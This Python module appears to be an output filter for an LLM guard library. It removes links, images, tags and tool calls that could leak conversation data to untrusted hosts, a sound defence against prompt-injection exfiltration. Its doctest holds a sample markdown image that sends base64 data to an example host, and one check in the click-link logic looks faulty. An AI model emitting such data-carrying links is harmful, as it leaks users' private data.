"""Addresses in an answer that would carry data out of the conversation."""

from __future__ import annotations

import re
from dataclasses import dataclass, replace
from functools import partial
from urllib.parse import unquote

from temper.core.chat import Call, Request, Role
from temper.core.stage import ALLOWED, Context, Decision, Exchange, Level
from temper.guard.out.bits import bits
from temper.guard.out.said import sent
from temper.kernels.links import Link, links, pictured, within

REMOVED = "about:blank#removed"
_HARMLESS = ("about", "tel", "cid")
_ROUNDS, _LONGEST = 3, 160
_PLACE = re.compile(
    r"(?<![\w/:@.-])[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,7}\.[a-z]{2,24}(?::\d{1,5})?"
    r"(?:/[^\s\"'<>`)\]]{1,2000}|(?![\w./-]))",
    re.IGNORECASE,
)
"""A host without a protocol, with a path or alone: no address in markdown, but some programs open it."""
_PLAIN = 40.0
_NUMBER = re.compile(r"(?<!\d)(?!(?:19|20)\d\d(?!\d))\d{4,}")  # a year tells nothing
_TAG = re.compile(r"<[a-z!?/][^<>]{0,4000}>?", re.IGNORECASE)


@dataclass(frozen=True, slots=True, kw_only=True)
class Egress:
    """Takes addresses out of an answer that could carry data to a stranger, and calls that send any.

    `hosts`, and whatever is trusted, are the allow-list; a host stands for those below it. Anywhere else, nothing may
    load by itself (images, HTML, CSS), and a link that takes a click may hold at most `clicks` bits beyond words, no
    number out of the instructions or a tool's answer, and no foreign letters in its host; 0 forbids such links. An
    allowed host may be sent `bits`, and may not be told to pass on to another. An address that the user wrote stays,
    and so does a link that a tool's answer holds word for word: nothing can have been put into it. A picture whose
    address is said elsewhere becomes a link; data:, javascript: and the like never stay. Misleads where data leaves in
    words: `clicks: 0` closes that.
    Source: Rehberger, "Image markdown injection", 2023; Greshake et al., "Not what you've signed up for", 2023.

    >>> from temper.core.chat import Reply
    >>> said = Exchange(request=Request(messages=()), reply=Reply(text="See ![x](https://a.example/p?d=c2VjcmV0IGNvZGU)"))
    >>> Egress().check(said, Context()).exchange.reply.text
    'See ![x](about:blank#removed)'
    """

    hosts: tuple[str, ...] = ()
    clicks: float = 40.0
    bits: float = 160.0

    def check(self, exchange: Exchange, context: Context) -> Decision:
        reply = exchange.reply
        if reply is None:
            return ALLOWED
        view = _View.of(self, exchange.request, context)
        text, found = view.cleaned(reply.text)
        if text is None:
            return Decision(level=Level.BLOCK, reason=f"{found[0]}, and it cannot be taken out")
        calls = {call: reason for call in reply.calls if (reason := view.sends(call))}
        reasons = [*found, *(f"{call.name[:80]} sends {reason}" for call, reason in calls.items())]
        if not reasons:
            return ALLOWED
        kept = replace(reply, text=text, calls=tuple(call for call in reply.calls if call not in calls))
        return Decision(level=Level.REVISE, reason="; ".join(reasons), exchange=replace(exchange, reply=kept))


@dataclass(frozen=True, slots=True, kw_only=True)
class _View:
    """What is allowed in one conversation."""

    stage: Egress
    allowed: tuple[str, ...]
    users: str
    tools: str
    numbers: frozenset[str]

    @classmethod
    def of(cls, stage: Egress, request: Request, context: Context) -> _View:
        said = {role: "\n".join(one.text for one in request.messages if one.role is role) for role in Role}
        return cls(
            stage=stage,
            allowed=(*stage.hosts, *context.trusted),
            users=said[Role.USER],
            tools=said[Role.TOOL],
            numbers=frozenset(_NUMBER.findall(f"{said[Role.SYSTEM]}\n{said[Role.TOOL]}"))
            - frozenset(_NUMBER.findall(said[Role.USER])),
        )

    def cleaned(self, text: str) -> tuple[str | None, list[str]]:
        """The text without the addresses that may not stay, and why each went; None where one cannot be taken out."""
        reasons: dict[str, None] = {}
        for _ in range(_ROUNDS):
            text = _TAG.sub(partial(self._tag, reasons), text) if "<" in text else text
            if marks := pictured(text):
                reasons["a picture by reference"] = None
                text = "".join(sign for at, sign in enumerate(text) if at not in set(marks))
            refused = self._refused(text)
            if not refused:
                return text, list(reasons)
            reasons |= dict.fromkeys(refused.values())
            text = _without(text, list(refused))
        return (None if self._refused(text) else text), list(reasons)

    def sends(self, call: Call) -> str:
        """What a call would send where, "" where that is allowed."""
        text = sent(call)
        refused = list(self._refused(text, opens=True).values())
        for line in filter(_PLACE.fullmatch, text.splitlines()):
            if "/" in line and (reason := self._objection(_place(line, 0, "call"), opens=True)):
                refused.append(reason)
        return next(iter(refused), "")

    def _refused(self, text: str, *, opens: bool = False) -> dict[Link, str]:
        """(an address, what is wrong with it)."""
        if not any(mark in text for mark in ":/&."):
            return {}
        places = (_place(found[0], found.start(), "place") for found in _PLACE.finditer(text))
        found = {link: reason for link in links(text) if (reason := self._objection(link, opens=opens))}
        return found | {place: reason for place in places if (reason := self._placed(place))}

    def _placed(self, place: Link) -> str:
        """What is wrong with a host that names no protocol: only what it carries."""
        known = within(place.host, self.allowed) or place.url[2:] in self.users or place.url[2:] in self.tools
        return "" if known or bits(_path(place)) <= _PLAIN else f"a place at {place.host} that carries data"

    def _tag(self, reasons: dict[str, None], found: re.Match[str]) -> str:
        """A tag; one that names an address only once the blanks in it are ignored, as browsers do, goes as a whole."""
        tag = found[0]
        tight = re.sub(r"[\t\r\n]", "", tag)
        if tight == tag or self._refused(tag) or not (refused := self._refused(tight)):
            return tag
        reasons |= dict.fromkeys(refused.values())
        return ""

    def _objection(self, link: Link, *, opens: bool) -> str:
        if not link.host and link.scheme in ("", *_HARMLESS):
            return ""
        if not link.host:
            return f"an address with {link.scheme}:"
        if link.url in self.users:
            return ""
        if within(link.host, self.allowed):
            return self._loaded(link)
        if link.loads or opens:
            return f"{_what(link)} to {link.host}"
        return "" if link.url in self.tools else self._clicked(link)

    def _loaded(self, link: Link) -> str:
        """What is wrong with an address of an allowed host."""
        inner = [one for one in links(unquote(unquote(link.carried))) if one.host]
        if any(not within(one.host, self.allowed) for one in inner):
            return f"{_what(link)} to {link.host} that passes on to {inner[0].host}"
        if link.url not in self.tools and bits(_path(link)) > self.stage.bits:
            return f"{_what(link)} to {link.host} that carries too much"
        return ""

    def _clicked(self, link: Link) -> str:
        """What is wrong with a link to any other host."""
        path = _path(link)
        if not self.stage.clicks or not link.host.isascii() or "xn--" in link.host:
            return f"{_what(link)} to {link.host}"
        if len(path) > _LONGEST or bits(path) > self.stage.clicks:
            return f"{_what(link)} to {link.host} that carries data"
        if link.scheme != "mailto" and not path.startswith(" "):
            return f"{_what(link)} to {link.host} with a user's name"
        if any(one in self.numbers or one[::-1] in self.numbers for one in _NUMBER.findall(path)):
            return f"{_what(link)} to {link.host} with a number of this conversation"
        return ""


def _what(link: Link) -> str:
    named = {"html": "an HTML tag", "css": "a style", "import": "a style", "meta": "a meta tag"}
    return named.get(link.kind) or f"{'an' if link.kind[0] in 'aeio' else 'a'} {link.kind}"


def _place(text: str, start: int, kind: str) -> Link:
    host = re.split("[/:]", text, maxsplit=1)[0].lower()
    return Link(url=f"//{text}", host=host, kind=kind, loads=False, start=start, end=start + len(text))


def _path(link: Link) -> str:
    """What of an address can hold data: all but the last label of its host."""
    return link.carried.removesuffix(link.host) + (link.host.rpartition(".")[0] or link.host)


def _without(text: str, refused: list[Link]) -> str:
    """The text with these addresses replaced."""
    parts, at = [], 0
    for link in sorted(refused, key=lambda one: (one.start, -one.end)):
        if link.start >= at:
            parts += [text[at : link.start], REMOVED]
        at = max(at, link.end)
    return "".join((*parts, text[at:]))


PLUGIN = Egress
